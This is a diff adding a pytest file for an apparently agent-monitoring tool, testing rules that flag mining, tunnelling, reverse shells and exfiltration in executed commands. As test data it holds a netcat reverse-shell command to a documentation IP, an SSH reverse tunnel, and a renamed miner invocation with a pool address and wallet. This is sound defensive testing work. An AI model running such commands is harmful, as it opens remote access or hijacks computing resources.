@@ -1,0 +1,169 @@
+"""Our own rules over commands: fixtures of each rule, an attack corpus, a benign corpus, and what a finding says."""
+
+from __future__ import annotations
+
+import importlib.util
+from collections import Counter
+from pathlib import Path
+from typing import TYPE_CHECKING, cast
+
+import pytest
+
+from jupyter_agentwatch.detect.commands import CommandDetector
+from jupyter_agentwatch.detect.own import COMMAND_RULES, OWN_RULES, own_detectors
+from jupyter_agentwatch.detect.rule import SEVERITIES
+from jupyter_agentwatch.testing.builders import event
+
+if TYPE_CHECKING:
+    from collections.abc import Iterable
+
+    from jupyter_agentwatch.detect import Draft
+
+HERE = Path(__file__).parent
+FIXTURES = HERE / "fixtures" / "detect"
+HIGH = SEVERITIES.index("high")
+MISSES: frozenset[str] = frozenset()
+"""Lines of the attack corpus that are known to be missed."""
+
+
+def drafts(line: str) -> list[Draft]:
+    """Return what a fresh detector says of a script, as it is when bash is started with it."""
+    detector = CommandDetector(COMMAND_RULES)
+    return list(detector.feed(event("exec", basis="claimed", path="/bin/bash", argv=["bash", "-c", line])))
+
+
+def worst(found: Iterable[Draft]) -> int:
+    """Return the rank of the greatest severity, -1 for none."""
+    return max((SEVERITIES.index(draft.severity) for draft in found), default=-1)
+
+
+def rule_lines() -> list[tuple[str, bool, str]]:
+    """Return (rule, whether it must hold, line) of every fixture."""
+    found, rule = [], ""
+    for line in (FIXTURES / "rules.txt").read_text("utf-8").splitlines():
+        if line.startswith("["):
+            rule = line[1:-1]
+        elif line[:2] in ("+ ", "- "):
+            found.append((rule, line[0] == "+", line[2:]))
+    return found
+
+
+def attacks() -> list[tuple[str, str]]:
+    """Return (family, line) of every attack."""
+    lines = (FIXTURES / "attacks.txt").read_text("utf-8").splitlines()
+    return [cast("tuple[str, str]", tuple(line.split("\t", 1))) for line in lines if line and line[0] != "#"]
+
+
+def benign() -> list[str]:
+    """Return the benign corpus."""
+    spec = importlib.util.spec_from_file_location("benign_lines", HERE / "benign_lines.py")
+    assert spec is not None
+    assert spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return cast("list[str]", module.benign_lines())
+
+
+@pytest.mark.parametrize(("rule", "holds", "line"), rule_lines(), ids=lambda value: str(value)[:40])
+def test_each_rule_holds_where_it_must_and_nowhere_else(rule: str, holds: bool, line: str) -> None:
+    """A rule's positive lines give it, its negative ones do not."""
+    assert (rule in {draft.rule for draft in drafts(line)}) is holds
+
+
+def test_each_rule_over_commands_has_fixtures() -> None:
+    """Every rule has at least five positive and five negative lines."""
+    counts = Counter((rule, holds) for rule, holds, _ in rule_lines())
+    wanted = {rule.id for each in COMMAND_RULES for rule in each.rules}
+    assert {rule for rule, _ in counts} == wanted
+    assert {key: n for key, n in counts.items() if n < 5} == {}
+
+
+def test_attacks_are_caught_at_high() -> None:
+    """At least 95 % of the attack corpus give a finding of severity high or above; the misses are those listed."""
+    missed = {line for _, line in attacks() if worst(drafts(line)) < HIGH}
+    assert len(attacks()) >= 150
+    assert missed == MISSES
+    assert len(missed) <= 0.05 * len(attacks())
+
+
+def test_ordinary_lines_are_left_alone() -> None:
+    """Of at least 2,000 benign lines, at most one in a thousand gives a finding of severity high or above."""
+    lines = benign()
+    assert len(lines) >= 2000
+    alarms = [line for line in lines if worst(drafts(line)) >= HIGH]
+    assert len(alarms) <= len(lines) // 1000, alarms
+
+
+def test_looking_for_marks_first_loses_nothing() -> None:
+    """The quick look that decides whether a text is read at all never hides a finding of severity high."""
+    detector = CommandDetector(COMMAND_RULES)
+    for line in [*(line for _, line in attacks()), *(line for _, holds, line in rule_lines() if holds)]:
+        slow = {
+            hit.rule.id for hit in detector.hits(["bash", "-c", line]) if (hit.severity or hit.rule.severity) == "high"
+        }
+        assert slow <= {draft.rule for draft in drafts(line)}, line
+
+
+def test_a_script_is_a_hint_and_an_exec_is_the_truth() -> None:
+    """What stands in a script, or was asked for, is never critical; the exec of it is."""
+    detector = CommandDetector(COMMAND_RULES)
+    argv = ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]
+    step = event("step", op="start", step=1, argv=["bash", "-c", " ".join(argv)])
+    real = event("exec", basis="claimed", step=1, pid=7, seq=3, path="/usr/bin/nc", argv=argv)
+    assert [draft.severity for draft in detector.feed(step)] == ["high"]
+    (found,) = detector.feed(real)
+    assert (found.severity, found.family, found.technique, found.step, found.pid, found.evidence) == (
+        "critical",
+        "shell",
+        "T1059.004",
+        1,
+        7,
+        (3,),
+    )
+
+
+def test_one_cause_gives_one_finding() -> None:
+    """The same command again in the same step says nothing new; in another step it does."""
+    detector = CommandDetector(COMMAND_RULES)
+    argv = ["ssh", "-R", "1:a:2", "h"]
+    first = event("exec", basis="claimed", step=1, path="/usr/bin/ssh", argv=argv)
+    later = event("exec", basis="claimed", step=2, path="/usr/bin/ssh", argv=argv)
+    assert [len(list(detector.feed(each))) for each in (first, first, later)] == [1, 0, 1]
+
+
+def test_a_renamed_program_is_known_by_what_it_is_told() -> None:
+    """`argv[0]` and the path may be anything."""
+    detector = CommandDetector(COMMAND_RULES)
+    argv = ["sshd", "-o", "203.0.113.9:443", "-u", "0x71C7656EC7ab88b098defB751B7401B5f6d8976F", "-p", "x"]
+    (found,) = detector.feed(event("exec", basis="claimed", path="/tmp/x/python-helper", argv=argv))
+    assert (found.rule, found.severity) == ("mining.miner_options", "critical")
+
+
+def test_records_after_the_fact_are_not_read_twice() -> None:
+    """Only claims and steps carry arguments."""
+    detector = CommandDetector(COMMAND_RULES)
+    assert list(detector.feed(event("exec", basis="post", exe="/usr/bin/ssh"))) == []
+    assert list(detector.feed(event("step", op="end", argv=["ssh", "-R", "1:a:2", "h"]))) == []
+
+
+def test_every_rule_of_our_own_is_complete() -> None:
+    """Each has an id of its family, a technique, a reason and what it takes by mistake."""
+    families: Counter[str] = Counter()
+    for rule in OWN_RULES:
+        families[rule.family] += 1
+        assert rule.technique.startswith("T1")
+        assert rule.rationale.endswith(".")
+        assert rule.false_positives
+        assert rule.severity in SEVERITIES
+    assert set(families) == {
+        "mining",
+        "tunnel",
+        "shell",
+        "probing",
+        "exfiltration",
+        "diversion",
+        "tampering",
+        "payment",
+    }
+    assert len({rule.id for rule in OWN_RULES}) == len(OWN_RULES)
+    assert len({detector.name for detector in own_detectors()}) == len(own_detectors())
